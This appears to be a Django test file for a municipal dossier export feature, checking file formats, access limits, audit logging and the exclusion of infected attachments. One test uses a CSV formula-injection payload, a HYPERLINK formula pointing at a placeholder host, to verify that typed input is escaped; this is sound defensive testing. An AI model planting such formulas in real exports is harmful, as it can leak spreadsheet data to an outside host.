"""What a list holds, as files: the right dossiers, answers in columns, no formula, no dangerous piece, a line in the log."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import TYPE_CHECKING

import pypdf
from django.utils import timezone
from openpyxl import load_workbook

from identity.audit.models import Entry
from teleservices.dossiers.enums import ScanState
from teleservices.dossiers.models import Offer, Piece
from teleservices.instruction.enums import ReadingAction
from tenants.current import commune_context
from tests.people import login
from tests.teleservices.filings import FILINGS, answer_step
from tests.teleservices.instruction.filing import file_act, file_report
from tests.teleservices.journeys import begin, codes, send

if TYPE_CHECKING:
    from typing import Any

    from django.test import Client

    from identity.accounts.models import Agent
    from teleservices.dossiers.models import Dossier
    from tenants.models import Commune

ADDRESS = "/instruction/exporter/?file=toutes"


def exported(client: Client, kind: str, address: str = ADDRESS, **more: str) -> bytes:
    answer: Any = client.post(address, {"format": kind, **more})
    assert answer.status_code == 200, answer.content.decode()
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert "no-store" in answer.headers["Cache-Control"]
    return b"".join(answer.streaming_content)


def table(client: Client, address: str = ADDRESS) -> list[list[str]]:
    text = exported(client, "csv", address).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_the_answers_of_each_procedure_have_their_columns(
    at_venissieux: Client, venissieux: Commune, alice: Agent, act: Dossier, report: Dossier
) -> None:
    login(at_venissieux, alice)
    rows = table(at_venissieux)
    head, lines = rows[0], {row[0]: row for row in rows[1:]}
    assert set(lines) == {act.reference, report.reference}
    assert lines[act.reference][4] == "dora@citoyens.example"
    hole = next(rank for rank, cell in enumerate(lines[report.reference]) if cell.startswith("Trou de 30 cm"))
    assert head[hole].startswith("Signaler")
    assert lines[act.reference][hole] == ""
    book = load_workbook(io.BytesIO(exported(at_venissieux, "xlsx")))
    assert len(book.sheetnames) == 3
    assert book["Demandes"]["A2"].value in lines
    days = [cell for cell in book["Demandes"][2] if cell.is_date]
    assert {cell.value.date() for cell in days} >= {timezone.localdate()}
    with zipfile.ZipFile(io.BytesIO(exported(at_venissieux, "ods"))) as ods:
        content = ods.read("content.xml").decode()
        assert ods.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    assert content.count("<table:table ") == 3
    assert "Trou de 30 cm" in content
    assert f'office:date-value="{timezone.localdate().isoformat()}"' in content
    pdf = pypdf.PdfReader(io.BytesIO(exported(at_venissieux, "pdf")))
    assert act.reference in pdf.pages[0].extract_text()
    with commune_context(venissieux):
        details = [one.detail for one in Entry.objects.filter(action=ReadingAction.EXPORTED)]
    assert {"format": "pdf", "dossiers": "2", "list": "file=toutes"} in details
    assert len(details) == 4


def test_each_item_of_a_group_has_its_line(at_venissieux: Client, venissieux: Commune, alice: Agent) -> None:
    start = "/demarches/enfance/"
    with commune_context(venissieux):
        Offer.objects.filter(slug="enfance").update(settings=FILINGS["enfance"].settings)
    begin(at_venissieux, start)
    for step, given in FILINGS["enfance"].steps:
        two = isinstance(given, list) and step == "enfants"
        twice = [given[0], given[0] | {"enfant-given_names": "Léo"}] if two else given
        answer_step(at_venissieux, start, step, twice)
    reference = codes(send(at_venissieux, start))[0]
    login(at_venissieux, alice)
    book = load_workbook(io.BytesIO(exported(at_venissieux, "xlsx")))
    sheets = {tuple(cell.value for cell in sheet[1])[:2]: sheet for sheet in book.worksheets}
    lines = list(sheets["Référence", "Enfant"].iter_rows(values_only=True))
    assert [line[:2] for line in lines[1:]] == [(reference, "1"), (reference, "2")]
    assert ["Zoé" in str(line) for line in lines[1:]] == [True, False]
    assert ["Léo" in str(line) for line in lines[1:]] == [False, True]
    assert len({sheet.title.lower() for sheet in book.worksheets}) == len(book.worksheets)


def test_only_what_the_agent_reads_and_what_the_list_holds(
    as_claire: Client, venissieux: Commune, act: Dossier, report: Dossier
) -> None:
    with commune_context(venissieux):
        other = file_act(titulaire={"birth_name": "Éluard", "given_names": "Paul"})
    assert {row[0] for row in table(as_claire)[1:]} == {act.reference, other.reference}
    assert [row[0] for row in table(as_claire, f"{ADDRESS}&q=eluard")[1:]] == [other.reference]
    with commune_context(venissieux):
        last = Entry.objects.filter(action=ReadingAction.EXPORTED).first()
    assert last
    assert "eluard" not in str(last.detail), "the words of a search may be a name"
    assert len(table(as_claire, "/instruction/exporter/?service=voirie-cadre-de-vie&file=toutes")) == 1
    assert as_claire.post(ADDRESS, {"format": "exe"}).status_code == 422


def test_nothing_that_was_typed_is_computed(as_bob: Client, venissieux: Commune) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1;"Cliquez")'
    with commune_context(venissieux):
        file_report(description=formula)
    assert any("'" + formula == cell for cell in table(as_bob)[1])
    book = load_workbook(io.BytesIO(exported(as_bob, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert [cell.data_type for cell in cells] == ["s"]
    with zipfile.ZipFile(io.BytesIO(exported(as_bob, "ods"))) as ods:
        assert "table:formula" not in ods.read("content.xml").decode()


def test_pieces_that_are_dangerous_or_wait_stay(as_bob: Client, venissieux: Commune) -> None:
    with commune_context(venissieux):
        filed = [file_report(with_photo=True) for _state in ScanState]
        pieces = [one.pieces.get() for one in filed]
        for piece, state in zip(pieces, ScanState, strict=True):
            Piece.objects.filter(pk=piece.pk).update(scan=state)
        old = file_report(with_photo=True)
        old.pieces.update(file="", scan=ScanState.CLEAN)
    by_state = dict(zip(ScanState, filed, strict=True))

    def members(**more: str) -> set[str]:
        with zipfile.ZipFile(io.BytesIO(exported(as_bob, "zip", **more))) as archive:
            assert archive.testzip() is None
            left = archive.read("LISEZ-MOI.txt").decode("utf-8-sig")
            assert f"{by_state[ScanState.INFECTED].reference}\ttrou.jpg\tdangereuse" in left
            assert f"{old.reference}\ttrou.jpg\teffacée au terme de sa durée" in left
            return {name for name in archive.namelist() if name != "LISEZ-MOI.txt"}

    clean = f"{by_state[ScanState.CLEAN].reference}/trou.jpg"
    assert members() == {clean}
    assert members(unscanned="on") == {clean, f"{by_state[ScanState.NOT_SCANNED].reference}/trou.jpg"}
